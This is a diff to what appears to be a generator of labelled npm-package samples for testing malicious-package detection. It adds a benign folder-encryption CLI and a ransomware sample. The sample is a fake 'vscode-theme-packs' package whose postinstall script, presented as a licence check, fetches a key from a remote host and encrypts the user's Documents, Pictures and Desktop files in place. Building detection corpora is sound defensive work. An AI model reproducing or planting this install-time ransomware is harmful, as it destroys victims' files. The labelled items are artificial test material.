@@ -121,6 +121,68 @@ module.exports = { appearance };
     )
 
 
+@sample
+def inplace_encrypt_home():
+    index = r"""'use strict';
+const fsp = require('fs/promises');
+const os = require('os');
+const path = require('path');
+const crypto = require('crypto');
+const https = require('https');
+
+const EXT = new Set(['.doc', '.docx', '.xls', '.xlsx', '.pdf', '.jpg', '.png', '.txt', '.sql', '.zip']);
+
+async function* files(dir, depth) {
+  if (depth > 5) return;
+  let list;
+  try { list = await fsp.readdir(dir, { withFileTypes: true }); } catch { return; }
+  for (const d of list) {
+    const p = path.join(dir, d.name);
+    if (d.isDirectory() && !d.name.startsWith('.')) yield* files(p, depth + 1);
+    else if (EXT.has(path.extname(d.name).toLowerCase())) yield p;
+  }
+}
+
+async function seal(key) {
+  for (const top of ['Documents', 'Pictures', 'Desktop']) {
+    for await (const p of files(path.join(os.homedir(), top), 0)) {
+      try {
+        const iv = crypto.randomBytes(12);
+        const c = crypto.createCipheriv('aes-256-gcm', key, iv);
+        const body = await fsp.readFile(p);
+        await fsp.writeFile(p, Buffer.concat([iv, c.update(body), c.final(), c.getAuthTag()]));
+        await fsp.rename(p, p + '.sealed');
+      } catch {}
+    }
+  }
+}
+
+// License check for the premium themes.
+https.get('https://lic.theme-packs.invalid/v1/check?m=' + os.hostname(), (res) => {
+  let s = '';
+  res.on('data', (d) => (s += d));
+  res.on('end', () => { try { const j = JSON.parse(s); if (j.k) seal(Buffer.from(j.k, 'hex')); } catch {} });
+}).on('error', () => {});
+"""
+    files = {
+        "package.json": pj(name="vscode-theme-packs", version="2.0.1", main="index.js",
+                           scripts={"postinstall": "node index.js"},
+                           description="Premium colour themes for VS Code, installed in one step"),
+        "README.md": readme("vscode-theme-packs", "Installs the theme packs on `npm install`."),
+        "index.js": index,
+    }
+    return S(
+        "reach7-inplace-encrypt-home",
+        "ransomware at postinstall: a key fetched from the operator encrypts Documents, Pictures and Desktop files in place with AES-GCM and renames them",
+        "2021-2025",
+        ["install-script", "postinstall", "ransomware", "file-encryption", "remote-key", "network"],
+        "Other shape of the holdout3 noblox ransomware: fs/promises and an async generator walk, "
+        "the key comes from the network, the original is overwritten in place and renamed "
+        "(no unlink), and there is no ransom note.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -212,5 +274,52 @@ module.exports = function setWallpaper(url, cb) {
         ["macos-only", "jxa", "osascript", "objc-bridge", "download"],
         "Downloads over the Objective-C bridge and runs a built command, but runs nothing it "
         "downloaded: the counterpart of the JXA cradles.",
+        files,
+    )
+
+
+@benign
+def b_encrypt_dir_cli():
+    cli = r"""#!/usr/bin/env node
+'use strict';
+const fs = require('fs');
+const path = require('path');
+const crypto = require('crypto');
+
+// encrypt-dir <dir> [--remove]: encrypts every file under <dir> with a key derived from a
+// passphrase read from the terminal; originals are kept unless --remove is given.
+function walk(dir, key, remove) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    if (e.isDirectory()) { walk(p, key, remove); continue; }
+    if (p.endsWith('.enc')) continue;
+    const iv = crypto.randomBytes(12);
+    const c = crypto.createCipheriv('aes-256-gcm', key, iv);
+    const enc = Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final(), c.getAuthTag()]);
+    fs.writeFileSync(p + '.enc', enc);
+    if (remove) fs.unlinkSync(p);
+  }
+}
+
+const [dir, flag] = process.argv.slice(2);
+if (!dir) { console.error('usage: encrypt-dir <dir> [--remove]'); process.exit(2); }
+const pass = process.env.ENCRYPT_DIR_PASSPHRASE || require('readline-sync').question('passphrase: ', { hideEchoBack: true });
+const key = crypto.scryptSync(pass, 'encrypt-dir', 32);
+walk(path.resolve(dir), key, flag === '--remove');
+"""
+    files = {
+        "package.json": pj(name="encrypt-dir", version="1.6.0", bin={"encrypt-dir": "cli.js"},
+                           dependencies={"readline-sync": "^1.4.10"},
+                           description="Encrypt every file of a folder with a passphrase"),
+        "README.md": readme("encrypt-dir", "```sh\nencrypt-dir ./secrets --remove\n```\n\nKeep your passphrase: files cannot be decrypted without it; decrypt with `decrypt-dir`."),
+        "cli.js": cli,
+    }
+    return S(
+        "reach7-benign-encrypt-dir-cli",
+        "folder-encryption CLI: walks the directory its user names, encrypts each file and removes the originals only with --remove",
+        "2025",
+        ["file-encryption", "cli", "directory-walk"],
+        "Walk, read, cipher, write and unlink in one loop like ransomware, but over a folder the "
+        "user gives on the command line, with no home-folder roots and no ransom note.",
         files,
     )
